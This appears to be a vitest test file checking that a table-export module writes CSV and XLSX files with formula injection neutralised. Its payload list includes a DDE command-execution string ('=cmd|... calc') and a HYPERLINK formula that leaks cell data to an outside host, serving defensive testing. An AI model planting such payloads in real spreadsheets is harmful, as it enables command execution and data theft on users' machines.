import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { describe, expect, it, onTestFinished } from 'vitest'
import { tempFolder } from '../../test/support/temp-folder.ts'
import { secureRandom } from '../kernel/index.ts'
import { asTyped, writeTables } from './index.ts'

/** What a spreadsheet computes, and what people put in front of it so that nobody looks for it there. */
const SIGNS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '=HYPERLINK("https://example.test?x="&A1,"y")',
]
const FRONTS = ['', ' ', '\u00a0', '\n', '\t', '\r\n ']
const PAYLOADS = SIGNS.flatMap((sign) => FRONTS.map((front) => `${front}${sign}`))
const COMPUTED = /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/

async function write(format: 'csv' | 'xlsx'): Promise<Uint8Array> {
  const { folder, remove } = tempFolder()
  onTestFinished(() => remove())
  const target = join(folder, 'people')
  const rows = PAYLOADS.map((payload) => [payload, { phone: '+886912345678' }])
  const file = {
    target,
    format,
    tables: [{ name: 'People', headings: ['Name', 'Phone'], pages: [rows] }],
    timeZone: 'Asia/Taipei',
    at: Date.UTC(2026, 10, 22),
  } as const
  expect(await writeTables({ ...file, random: secureRandom })).toMatchObject({ ok: true })
  return readFileSync(target)
}

describe('P-10: formulas in what is exported', () => {
  it('P-10: 60 of them are harmless as CSV, numbers of phones too, everything in quotes behind the mark of UTF-8', async () => {
    expect(PAYLOADS).toHaveLength(60)
    const bytes = await write('csv')
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes)
    const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true })
    const cells = data.slice(1).flat()
    expect(cells).toHaveLength(120)
    expect(cells.filter((cell) => COMPUTED.test(cell))).toEqual([])
    expect(text.split('\r\n').filter((line) => /(?:^|,)[=+\-@＝＋－＠]/u.test(line))).toEqual([])
  })

  it('P-10: come back as they were written when the file is read here again', async () => {
    const { data } = Papa.parse<string[]>(new TextDecoder().decode(await write('csv')), { skipEmptyLines: true })
    expect(data.slice(1).map(([name = '']) => asTyped(name))).toEqual(PAYLOADS)
    expect(asTyped(data[1]?.[1] ?? '')).toBe('+886912345678')
  })

  it('P-10: are texts in a workbook: no cell of it is a formula', async () => {
    const sheet = strFromU8(unzipSync(await write('xlsx'))['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).not.toMatch(/<f[\s>]/)
    const types = [...sheet.matchAll(/<c [^>]*?(?:t="(\w+)")?[^>]*>/g)].map((match) => /t="(\w+)"/.exec(match[0])?.[1])
    expect(types).toHaveLength(122)
    expect(new Set(types)).toEqual(new Set(['inlineStr']))
  })
})
